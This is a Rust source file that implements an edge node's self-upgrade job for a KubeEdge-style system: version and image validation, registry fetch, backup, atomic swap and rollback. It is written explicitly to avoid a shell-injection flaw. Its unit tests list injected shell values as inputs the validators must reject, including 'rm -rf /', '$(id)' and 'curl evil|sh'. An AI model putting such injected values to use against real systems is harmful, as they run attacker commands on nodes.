//! NodeUpgradeJob at the edge, in KubeEdge v1.23's action flow — `Check` (→
//! `WaitingConfirmation`) → `BackUp` → `Upgrade` (→ `RollBack`) — without keadm and without a
//! shell (KubeEdge v1.23.0 pasted job fields into `sh -c`, CVE-2026-62371):
//!
//! - `Check`: the `checkItems`, the version and image checked as KubeEdge checks them, then
//!   `/usr/local/bin/edgecore` taken out of `<image>:<version>` for this platform straight from
//!   the registry (`registry.rs`: every layer's digest checked, and the platform manifest's
//!   against `imageDigestGatter` when the job sets it), staged next to the running binary and
//!   asked for its `--version` (a binary that cannot run here stops the job before anything
//!   changes).
//! - `WaitingConfirmation`: with `requireConfirmation` the job waits, kept in a file next to
//!   the configuration, for `POST /api/v1/taskupgrade/confirm-upgrade` on the MetaServer
//!   (`keadm ctl confirm`).
//! - `BackUp`: the running binary and `edgecore.yaml` copied to `upgrade-backup/` beside the
//!   configuration.
//! - `Upgrade`: a marker written, the staged binary renamed over the running one (atomic), and
//!   edgecore re-executed from its path. The new edgecore reports `Upgrade` once it reaches the
//!   cloud; if it does not within half the job's time-out (10 s – 5 min), or cannot start, or
//!   starts three times without getting there, the copy goes back, edgecore restarts, and the
//!   old one reports `Upgrade` failed and `RollBack`.

use super::config_update::{self, commit, stage};
use super::{Supervisor, TaskSettings, send_report};
use crate::edgehub::EdgeHub;
use kubeedge_shared::nodetask::{ActionStatus, TaskResource};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

/// Where the new binary is inside the image (KubeEdge's installation package layout).
pub const BINARY_IN_IMAGE: &str = "usr/local/bin/edgecore";
/// Starts of a new binary that has not reached the cloud before it is rolled back.
const MAX_STARTS: u32 = 3;

/// `spec` of a NodeUpgradeJob (the fields the edge uses).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct UpgradeSpec {
    pub version: String,
    pub image: String,
    /// KubeEdge's JSON name, misspelt as it is.
    #[serde(rename = "imageDigestGatter", skip_serializing_if = "Option::is_none")]
    pub image_digest_getter: Option<DigestGetter>,
    pub check_items: Vec<String>,
    pub require_confirmation: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub timeout_seconds: Option<u64>,
}

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(default)]
pub struct DigestGetter {
    #[serde(rename = "arm64")]
    pub arm64: String,
    #[serde(rename = "amd64")]
    pub amd64: String,
}

/// The job's `spec` as the cloud sends it (an object, or its JSON text).
pub fn spec(content: &Value) -> Result<UpgradeSpec, String> {
    let v: Value = match content {
        Value::String(s) => {
            serde_json::from_str(s).map_err(|e| format!("spec is not JSON: {e}"))?
        }
        v => v.clone(),
    };
    serde_json::from_value(v).map_err(|e| format!("bad NodeUpgradeJob spec: {e}"))
}

/// KubeEdge's version rule: `v<major>.<minor>.<patch>` with an optional `-suffix` of letters,
/// digits, `_`, `.` and `-`.
pub fn valid_version(v: &str) -> bool {
    let Some(rest) = v.strip_prefix('v') else {
        return false;
    };
    let (core, suffix) = match rest.split_once('-') {
        Some((c, s)) => (c, Some(s)),
        None => (rest, None),
    };
    let nums: Vec<&str> = core.split('.').collect();
    nums.len() == 3
        && nums
            .iter()
            .all(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()))
        && suffix.is_none_or(|s| {
            s.split('-').all(|p| {
                !p.is_empty()
                    && p.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.')
            })
        })
}

/// KubeEdge's image repository rule: `host-or-name/name[/name…]` with an optional `:tag` or
/// `@sha256:<64 hex>`; letters, digits and `._-` (and `:` for a port in the first part).
pub fn valid_image(image: &str) -> bool {
    let (repo, suffix_ok) = match image.split_once('@') {
        Some((r, d)) => (
            r,
            d.strip_prefix("sha256:")
                .is_some_and(|h| h.len() == 64 && h.bytes().all(|b| b.is_ascii_hexdigit())),
        ),
        None => (image, true),
    };
    if !suffix_ok {
        return false;
    }
    let parts: Vec<&str> = repo.split('/').collect();
    if parts.len() < 2 {
        return false;
    }
    let name_ok = |p: &str, extra: &[u8]| {
        p.as_bytes().first().is_some_and(u8::is_ascii_alphanumeric)
            && p.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b) || extra.contains(&b))
    };
    let last = parts.len() - 1;
    let (last_name, tag) = match (image.contains('@'), parts[last].split_once(':')) {
        (false, Some((n, t))) => (n, Some(t)),
        _ => (parts[last], None),
    };
    name_ok(parts[0], b":")
        && parts[1..last].iter().all(|p| name_ok(p, b""))
        && name_ok(last_name, b"")
        && tag.is_none_or(|t| {
            !t.is_empty()
                && t.len() <= 128
                && (t.as_bytes()[0].is_ascii_alphanumeric() || t.as_bytes()[0] == b'_')
                && t.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
        })
}

/// The files an upgrade uses, from the running binary and its configuration file.
#[derive(Debug, Clone)]
pub struct Paths {
    pub exe: PathBuf,
    pub config: PathBuf,
}

impl Paths {
    pub fn marker(&self) -> PathBuf {
        marker_path(&self.config)
    }
    pub fn pending(&self) -> PathBuf {
        self.config.with_extension("yaml.upgrade-pending.json")
    }
    pub fn backup_dir(&self) -> PathBuf {
        dir_of(&self.config).join("upgrade-backup")
    }
    fn work_dir(&self) -> PathBuf {
        dir_of(&self.config).join("upgrade-work")
    }
    /// The new binary, beside the running one (same file system: the swap is a rename).
    pub fn staged(&self) -> PathBuf {
        self.exe.with_extension("upgrade-new")
    }
}

fn dir_of(p: &Path) -> PathBuf {
    match p.parent() {
        Some(d) if !d.as_os_str().is_empty() => d.to_path_buf(),
        _ => PathBuf::from("."),
    }
}

pub fn marker_path(config: &Path) -> PathBuf {
    config.with_extension("yaml.upgrade.json")
}

/// An upgrade in progress, kept across the restart.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Marker {
    pub resource: String,
    /// `upgrading` (the new binary is in place) or `rolledBack` (the copy is back).
    pub phase: String,
    pub exe: PathBuf,
    pub started: u64,
    pub rollback_after: u64,
    pub from: String,
    pub to: String,
    /// SHA-256 (hex) of the new binary.
    pub digest: String,
    #[serde(default)]
    pub starts: u32,
    #[serde(default)]
    pub reason: String,
}

/// A job waiting for `confirm-upgrade`.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Pending {
    pub resource: String,
    pub spec: UpgradeSpec,
    /// SHA-256 (hex) of the staged binary the check fetched (fetched again if it differs).
    #[serde(default)]
    pub staged: String,
    /// Unix seconds after which a confirmation is refused (the cloud has given up on the node).
    #[serde(default)]
    pub until: u64,
}

fn read_json<T: serde::de::DeserializeOwned>(p: &Path) -> Option<T> {
    serde_json::from_slice(&std::fs::read(p).ok()?).ok()
}

fn write_json<T: Serialize>(p: &Path, v: &T) -> std::io::Result<()> {
    config_update::write_atomic(p, &serde_json::to_vec(v).unwrap_or_default())
}

pub fn read_marker(config: &Path) -> Option<Marker> {
    read_json(&marker_path(config))
}

pub fn read_pending(paths: &Paths) -> Option<Pending> {
    read_json(&paths.pending())
}

/// This binary's version as the job reports it.
pub fn running_version() -> String {
    format!("v{}", env!("CARGO_PKG_VERSION"))
}

fn unix_now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::SystemTime::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

fn fail(action: &str, reason: String) -> ActionStatus {
    ActionStatus {
        action: action.into(),
        succ: false,
        reason,
        ..Default::default()
    }
}

fn ok(action: &str, extend: String) -> ActionStatus {
    ActionStatus {
        action: action.into(),
        succ: true,
        extend,
        ..Default::default()
    }
}

/// What this edgecore needs to upgrade itself: its binary's path and its configuration file.
fn paths_of(settings: &TaskSettings) -> Result<(Arc<Supervisor>, Paths), String> {
    let sup = settings.supervisor.clone().ok_or(
        "this edgecore does not run as its binary from its configuration file: it cannot upgrade itself",
    )?;
    match (&sup.exe, &sup.config_path) {
        (Some(exe), Some(config)) => {
            let paths = Paths {
                exe: exe.clone(),
                config: config.clone(),
            };
            Ok((sup, paths))
        }
        _ => {
            Err("the path of the running edgecore binary or of its configuration is unknown".into())
        }
    }
}

/// Why no node task that changes this edgecore may start now (one is in progress: its marker
/// is there until the restarted edgecore has reported).
pub fn busy(config: &Path) -> Option<String> {
    if marker_path(config).exists() {
        return Some("a node upgrade is in progress on this node".into());
    }
    if config_update::read_marker(config).is_some() {
        return Some("a configuration update is in progress on this node".into());
    }
    None
}

/// The job's time-out in seconds (KubeEdge's default 300).
fn job_timeout(spec: &UpgradeSpec) -> u64 {
    spec.timeout_seconds.filter(|t| *t > 0).unwrap_or(300)
}

/// SHA-256 (hex) of a file, read in pieces off the runtime's threads.
async fn file_digest(path: &Path) -> std::io::Result<String> {
    let path = path.to_path_buf();
    tokio::task::spawn_blocking(move || {
        use sha2::Digest;
        use std::io::Read;
        let mut f = std::fs::File::open(&path)?;
        let mut h = sha2::Sha256::new();
        let mut buf = vec![0u8; 64 << 10];
        loop {
            let n = f.read(&mut buf)?;
            if n == 0 {
                break;
            }
            h.update(&buf[..n]);
        }
        Ok(h.finalize().iter().map(|b| format!("{b:02x}")).collect())
    })
    .await
    .map_err(std::io::Error::other)?
}

/// Runs a NodeUpgradeJob from `Check` (what the cloud sends).
pub(super) async fn run_job(
    settings: &TaskSettings,
    hub: &EdgeHub,
    task: &TaskResource,
    content: &Value,
) {
    let spec = match spec(content) {
        Ok(s) => s,
        Err(e) => return super::report(hub, task, fail("Check", e)).await,
    };
    let (sup, paths) = match paths_of(settings) {
        Ok(p) => p,
        Err(e) => return super::report(hub, task, fail("Check", e)).await,
    };
    let _one_at_a_time = sup.updating.lock().await;
    if let Some(why) = busy(&paths.config) {
        return super::report(hub, task, fail("Check", why)).await;
    }
    if let Err(e) = check(settings, &paths, &spec).await {
        tracing::warn!(task = %task, reason = %e, "node upgrade refused at its check");
        let _ = std::fs::remove_file(paths.staged());
        return super::report(hub, task, fail("Check", e)).await;
    }
    if !send_report(hub, task, ok("Check", String::new())).await {
        return;
    }
    if spec.require_confirmation {
        // Kept before it is reported, so that a confirmation right after the report finds it.
        let pending = Pending {
            resource: task.to_string(),
            staged: file_digest(&paths.staged()).await.unwrap_or_default(),
            until: unix_now() + job_timeout(&spec),
            spec,
        };
        if let Some(old) = read_pending(&paths) {
            tracing::warn!(task = %task, replaced = %old.resource, "a node upgrade waiting for confirmation is replaced by a newer one");
        }
        if let Err(e) = write_json(&paths.pending(), &pending) {
            let why = format!("cannot keep the upgrade for its confirmation: {e}");
            return super::report(hub, task, fail("WaitingConfirmation", why)).await;
        }
        if send_report(hub, task, ok("WaitingConfirmation", String::new())).await {
            tracing::info!(task = %task, "node upgrade waits for confirmation (POST /api/v1/taskupgrade/confirm-upgrade on the MetaServer, or keadm ctl confirm)");
        }
        return;
    }
    if !send_report(hub, task, ok("WaitingConfirmation", String::new())).await {
        return;
    }
    back_up_and_swap(&sup, &paths, hub, task, &spec).await;
}

/// Continues a confirmed upgrade from `BackUp`. `Err` when none waits.
pub(super) async fn run_confirmed(settings: &TaskSettings, hub: &EdgeHub) -> Result<(), String> {
    let (sup, paths) = paths_of(settings)?;
    let _one_at_a_time = sup.updating.lock().await;
    let pending = read_pending(&paths).ok_or("there are no valid upgrade tasks to execute")?;
    let _ = std::fs::remove_file(paths.pending());
    let task = TaskResource::parse(&pending.resource).ok_or("the waiting upgrade names no task")?;
    if pending.until != 0 && unix_now() > pending.until {
        let why = "the confirmation came after the job's time-out; nothing changed".to_string();
        tracing::warn!(task = %task, "{why}");
        super::report(hub, &task, fail("BackUp", why.clone())).await;
        return Err(why);
    }
    if let Some(why) = busy(&paths.config) {
        super::report(hub, &task, fail("BackUp", why.clone())).await;
        return Err(why);
    }
    tracing::info!(task = %task, "node upgrade confirmed");
    let staged_ok = file_digest(&paths.staged())
        .await
        .is_ok_and(|d| !pending.staged.is_empty() && d == pending.staged);
    if !staged_ok {
        // The file the check fetched is gone or not the same (another job's check, a reboot
        // that cleaned it): fetched and checked again.
        if let Err(e) = check(settings, &paths, &pending.spec).await {
            let _ = std::fs::remove_file(paths.staged());
            super::report(hub, &task, fail("BackUp", e)).await;
            return Ok(());
        }
    }
    back_up_and_swap(&sup, &paths, hub, &task, &pending.spec).await;
    Ok(())
}

/// `Check`: items, version and image, the new binary fetched and staged.
async fn check(settings: &TaskSettings, paths: &Paths, spec: &UpgradeSpec) -> Result<(), String> {
    super::checks::run(&spec.check_items).await?;
    if !valid_version(&spec.version) {
        return Err(format!("invalid version {}", spec.version));
    }
    if spec.image.is_empty() {
        return Err("spec.image is empty: name the image holding the new edgecore at /usr/local/bin/edgecore (KubeEdge's kubeedge/installation-package holds KubeEdge's own edgecore)".into());
    }
    if !valid_image(&spec.image) {
        return Err(format!("invalid image repo {}", spec.image));
    }
    let expected = match &spec.image_digest_getter {
        None => None,
        Some(g) => match (
            super::registry::oci_arch(),
            g.arm64.as_str(),
            g.amd64.as_str(),
        ) {
            ("arm64", d, _) if !d.is_empty() => Some(d.to_string()),
            ("amd64", _, d) if !d.is_empty() => Some(d.to_string()),
            (arch, _, _) => {
                return Err(format!(
                    "unsupported the arch {arch} to verify the image digest"
                ));
            }
        },
    };
    let image = super::registry::ImageRef::new(&spec.image, &spec.version)?;
    let work = paths.work_dir();
    std::fs::create_dir_all(&work).map_err(|e| format!("{}: {e}", work.display()))?;
    let staged = paths.staged();
    let tls = super::registry::system_tls()?;
    tracing::info!(image = %image, "fetching the new edgecore");
    // Within the job's time-out (the cloud gives up on a silent node then), at most the
    // image pull time-out.
    let limit = settings
        .image_pull_timeout
        .min(Duration::from_secs(job_timeout(spec) * 4 / 5));
    let fetched = tokio::time::timeout(
        limit,
        super::registry::fetch_file(
            tls,
            &image,
            expected.as_deref(),
            BINARY_IN_IMAGE,
            &work,
            &staged,
        ),
    )
    .await
    .map_err(|_| format!("{image} was not fetched within {limit:?}"))
    .and_then(|r| r);
    let _ = std::fs::remove_dir_all(&work);
    let digest = fetched?;
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&staged, std::fs::Permissions::from_mode(0o755))
            .map_err(|e| format!("{}: {e}", staged.display()))?;
    }
    tracing::info!(image = %image, %digest, "new edgecore fetched and staged");
    Ok(())
}

/// Runs the staged binary once as edgecore is started, with `--version` added (fixed
/// arguments, no shell, an empty environment): its first line.
async fn preflight(binary: &Path, config: &Path) -> Result<String, String> {
    let run = tokio::process::Command::new(binary)
        .arg("--config")
        .arg(config)
        .arg("--version")
        .env_clear()
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true)
        .output();
    let out = tokio::time::timeout(Duration::from_secs(20), run)
        .await
        .map_err(|_| "the new edgecore did not answer --version within 20 s".to_string())?
        .map_err(|e| format!("the new edgecore cannot run on this node: {e}"))?;
    let text = String::from_utf8_lossy(&out.stdout);
    let first = text.lines().next().unwrap_or_default().trim().to_string();
    if !out.status.success() || !first.starts_with("edgecore") {
        return Err(format!(
            "the new binary is not an edgecore that runs here (--version: {}, {first:?})",
            out.status
        ));
    }
    Ok(first)
}

/// `BackUp` and `Upgrade` up to the restart.
async fn back_up_and_swap(
    sup: &Arc<Supervisor>,
    paths: &Paths,
    hub: &EdgeHub,
    task: &TaskResource,
    spec: &UpgradeSpec,
) {
    let from = running_version();
    let to = spec.version.clone();
    let extend = format!("{from},{to}");
    let _ = std::fs::remove_file(paths.pending());
    // The new binary runs once only now: after the confirmation when one was asked for.
    match preflight(&paths.staged(), &paths.config).await {
        Ok(version) => tracing::info!(task = %task, new = %version, "the new edgecore runs here"),
        Err(e) => {
            let _ = std::fs::remove_file(paths.staged());
            return super::report(hub, task, fail("BackUp", e)).await;
        }
    }
    if let Err(e) = back_up(paths) {
        let _ = std::fs::remove_file(paths.staged());
        return super::report(hub, task, fail("BackUp", e)).await;
    }
    if !send_report(hub, task, ok("BackUp", extend.clone())).await {
        return;
    }
    let digest = match file_digest(&paths.staged()).await {
        Ok(d) => d,
        Err(e) => {
            let why = format!("the staged edgecore is gone: {e}");
            super::report(hub, task, fail("Upgrade", why.clone())).await;
            return super::report(hub, task, ok("RollBack", format!("{to},{from}"))).await;
        }
    };
    let rollback_after = job_timeout(spec) / 2;
    let marker = Marker {
        resource: task.to_string(),
        phase: "upgrading".into(),
        exe: paths.exe.clone(),
        started: unix_now(),
        rollback_after: rollback_after.clamp(10, 300),
        from: from.clone(),
        to: to.clone(),
        digest,
        starts: 0,
        reason: String::new(),
    };
    let swapped =
        write_json(&paths.marker(), &marker).and_then(|()| commit(&paths.staged(), &paths.exe));
    if let Err(e) = swapped {
        let _ = std::fs::remove_file(paths.marker());
        let why = format!("cannot put the new edgecore in place: {e}");
        super::report(hub, task, fail("Upgrade", why.clone())).await;
        return super::report(hub, task, ok("RollBack", format!("{to},{from}"))).await;
    }
    tracing::warn!(task = %task, %from, %to, "edgecore binary replaced by a NodeUpgradeJob; restarting");
    sup.request_restart();
}

fn back_up(paths: &Paths) -> Result<(), String> {
    let dir = paths.backup_dir();
    std::fs::create_dir_all(&dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    for (from, name) in [(&paths.exe, "edgecore"), (&paths.config, "edgecore.yaml")] {
        let to = dir.join(name);
        let tmp = to.with_extension("tmp-backup");
        std::fs::copy(from, &tmp)
            .and_then(|_| std::fs::File::open(&tmp)?.sync_all())
            .and_then(|()| commit(&tmp, &to))
            .map_err(|e| format!("cannot copy {} to {}: {e}", from.display(), to.display()))?;
    }
    Ok(())
}

/// Puts the backed-up binary (executable) and `edgecore.yaml` back.
fn restore_binary(config: &Path, exe: &Path) -> std::io::Result<()> {
    use std::os::unix::fs::PermissionsExt;
    let dir = dir_of(config).join("upgrade-backup");
    let data = std::fs::read(dir.join("edgecore"))?;
    let staged = stage(exe, &data)?;
    std::fs::set_permissions(&staged, std::fs::Permissions::from_mode(0o755))?;
    commit(&staged, exe)?;
    if let Ok(saved) = std::fs::read(dir.join("edgecore.yaml")) {
        config_update::write_atomic(config, &saved)?;
    }
    Ok(())
}

/// After a restart with an upgrade in progress (run at every start, task manager on or off).
pub fn resume(sup: &Arc<Supervisor>, hub: &EdgeHub) {
    if let Some(config) = sup.config_path.clone()
        && let Some(marker) = read_marker(&config)
    {
        tokio::spawn(resume_upgrade(sup.clone(), config, marker, hub.clone()));
    }
}

async fn resume_upgrade(sup: Arc<Supervisor>, config: PathBuf, mut marker: Marker, hub: EdgeHub) {
    let Some(task) = TaskResource::parse(&marker.resource) else {
        let _ = std::fs::remove_file(marker_path(&config));
        return;
    };
    if marker.phase == "upgrading" {
        let in_place = file_digest(&marker.exe)
            .await
            .is_ok_and(|d| d == marker.digest);
        if !in_place {
            marker.phase = "rolledBack".into();
            marker.reason =
                "edgecore stopped before the new binary was in place; nothing changed".into();
        }
    }
    if marker.phase == "upgrading" {
        // The whole window from this start, by this process's clock (no wall-clock jumps).
        let deadline = tokio::time::Instant::now() + Duration::from_secs(marker.rollback_after);
        while !hub.is_connected() && tokio::time::Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        if hub.is_connected() {
            tracing::info!(task = %task, from = %marker.from, to = %marker.to, "the upgraded edgecore reached the cloud");
            let status = ok("Upgrade", format!("{},{}", marker.from, marker.to));
            // The marker goes once the cloud has the result (a restart before re-reports it).
            if send_report(&hub, &task, status).await {
                let _ = std::fs::remove_file(marker_path(&config));
            }
            return;
        }
        marker.reason = format!(
            "the new edgecore did not reach the cloud within {} s; the previous binary is back",
            marker.rollback_after
        );
        return roll_back_and_restart(&sup, &config, marker, &task);
    }
    // Rolled back: this is the previous binary again.
    tracing::warn!(task = %task, reason = %marker.reason, "node upgrade rolled back");
    if send_report(&hub, &task, fail("Upgrade", marker.reason.clone())).await
        && send_report(
            &hub,
            &task,
            ok("RollBack", format!("{},{}", marker.to, marker.from)),
        )
        .await
    {
        let _ = std::fs::remove_file(marker_path(&config));
    }
}

/// First thing at every start, before anything that a broken new binary could fail at: an
/// upgrade in progress counts this start, and after `MAX_STARTS` starts that never reached
/// the cloud the previous binary goes back. `true`: it did (the caller restarts).
pub fn on_start(config: &Path) -> bool {
    let Some(mut m) = read_marker(config) else {
        return false;
    };
    if m.phase != "upgrading" {
        return false;
    }
    m.starts += 1;
    if m.starts <= MAX_STARTS {
        let _ = write_json(&marker_path(config), &m);
        return false;
    }
    m.reason = format!(
        "the new edgecore started {} times without reaching the cloud; the previous binary is back",
        m.starts - 1
    );
    if restore_binary(config, &m.exe).is_err() {
        return false;
    }
    m.phase = "rolledBack".into();
    write_json(&marker_path(config), &m).is_ok()
}

fn roll_back_and_restart(sup: &Supervisor, config: &Path, mut marker: Marker, task: &TaskResource) {
    tracing::warn!(task = %task, reason = %marker.reason, "rolling the node upgrade back");
    marker.phase = "rolledBack".into();
    if let Err(e) =
        restore_binary(config, &marker.exe).and_then(|()| write_json(&marker_path(config), &marker))
    {
        tracing::error!(task = %task, error = %e, "cannot put the previous edgecore back");
        return;
    }
    sup.request_restart();
}

/// edgecore could not start after an upgrade put a new binary in place: the previous one goes
/// back. `true` when it did (the caller restarts).
pub fn roll_back_after_failed_start(config: &Path) -> bool {
    let Some(mut m) = read_marker(config) else {
        return false;
    };
    if m.phase != "upgrading" || restore_binary(config, &m.exe).is_err() {
        return false;
    }
    m.phase = "rolledBack".into();
    m.reason = "the new edgecore could not start; the previous binary is back".into();
    write_json(&marker_path(config), &m).is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// An upgrade to the binary `b"new"` at `exe`, in progress.
    fn upgrading(exe: &Path) -> Marker {
        Marker {
            resource: "operations.kubeedge.io/v1alpha2/nodeupgradejob/j/node/n".into(),
            phase: "upgrading".into(),
            exe: exe.to_path_buf(),
            started: 1,
            rollback_after: 10,
            from: "v0.1.0".into(),
            to: "v0.2.0".into(),
            digest: config_update::digest(b"new"),
            starts: 0,
            reason: String::new(),
        }
    }

    #[test]
    fn versions_follow_kubeedges_rule() {
        for good in ["v1.23.1", "v0.1.0", "v1.2.3-rc.1", "v1.2.3-kubeedge_rs-2"] {
            assert!(valid_version(good), "{good}");
        }
        for bad in [
            "1.2.3",
            "v1.2",
            "v1.2.3;rm -rf /",
            "v1.2.3 && id",
            "v1.2.3-$(id)",
            "v1.2.3-",
            "v1..3",
            "",
            "v1.2.3\n",
        ] {
            assert!(!valid_version(bad), "{bad:?}");
        }
    }

    #[test]
    fn images_follow_kubeedges_rule_and_refuse_shell_payloads() {
        for good in [
            "kubeedge/installation-package",
            "127.0.0.1:5000/kubeedge-rs/edgecore",
            "registry.example/a/b:v1",
            &format!("r.example/a@sha256:{}", "a".repeat(64)),
        ] {
            assert!(valid_image(good), "{good}");
        }
        for bad in [
            "busybox",
            "kubeedge/x;curl evil|sh",
            "$(id)/x",
            "kubeedge/x`id`",
            "kubeedge/x y",
            "kubeedge//x",
            "r.example/a@sha256:zz",
            "kubeedge/x:",
            "-x/y",
        ] {
            assert!(!valid_image(bad), "{bad:?}");
        }
    }

    #[test]
    fn specs_parse_kubeedges_field_names() {
        let s = spec(&serde_json::json!({
            "version": "v1.23.1", "image": "kubeedge/installation-package",
            "imageDigestGatter": {"amd64": "sha256:aa"}, "requireConfirmation": true,
            "checkItems": ["cpu"], "timeoutSeconds": 120, "nodeNames": ["n"]
        }))
        .unwrap();
        assert_eq!(s.version, "v1.23.1");
        assert!(s.require_confirmation);
        assert_eq!(s.image_digest_getter.unwrap().amd64, "sha256:aa");
        assert_eq!(s.timeout_seconds, Some(120));
        assert!(spec(&Value::String("{".into())).is_err());
    }

    #[test]
    fn a_failed_start_puts_the_previous_binary_back() {
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("edgecore.yaml");
        std::fs::write(&config, "x").unwrap();
        let exe = dir.path().join("edgecore");
        std::fs::write(&exe, b"new").unwrap();
        std::fs::create_dir_all(dir.path().join("upgrade-backup")).unwrap();
        std::fs::write(dir.path().join("upgrade-backup/edgecore"), b"old").unwrap();
        assert!(
            !roll_back_after_failed_start(&config),
            "no marker: nothing to do"
        );
        let m = upgrading(&exe);
        write_json(&marker_path(&config), &m).unwrap();
        assert!(roll_back_after_failed_start(&config));
        assert_eq!(std::fs::read(&exe).unwrap(), b"old");
        let after = read_marker(&config).unwrap();
        assert_eq!(after.phase, "rolledBack");
        assert!(after.reason.contains("could not start"));
        assert!(!roll_back_after_failed_start(&config), "only once");
    }

    #[test]
    fn starts_are_counted_first_and_the_fourth_rolls_back_binary_and_configuration() {
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("edgecore.yaml");
        std::fs::write(&config, "new config").unwrap();
        let exe = dir.path().join("edgecore");
        std::fs::write(&exe, b"new").unwrap();
        let backup = dir.path().join("upgrade-backup");
        std::fs::create_dir_all(&backup).unwrap();
        std::fs::write(backup.join("edgecore"), b"old").unwrap();
        std::fs::write(backup.join("edgecore.yaml"), "old config").unwrap();
        assert!(busy(&config).is_none());
        assert!(!on_start(&config), "nothing in progress");
        let m = upgrading(&exe);
        write_json(&marker_path(&config), &m).unwrap();
        assert!(
            busy(&config).unwrap().contains("upgrade"),
            "no other job meanwhile"
        );
        for n in 1..=MAX_STARTS {
            assert!(!on_start(&config), "start {n} is allowed");
            assert_eq!(read_marker(&config).unwrap().starts, n);
        }
        assert!(on_start(&config), "one start too many");
        assert_eq!(std::fs::read(&exe).unwrap(), b"old");
        assert_eq!(std::fs::read_to_string(&config).unwrap(), "old config");
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&exe).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o755, "the restored binary runs");
        }
        let after = read_marker(&config).unwrap();
        assert_eq!(after.phase, "rolledBack");
        assert!(after.reason.contains("started 3 times"), "{}", after.reason);
        assert!(!on_start(&config), "the previous binary is not counted");
    }
}
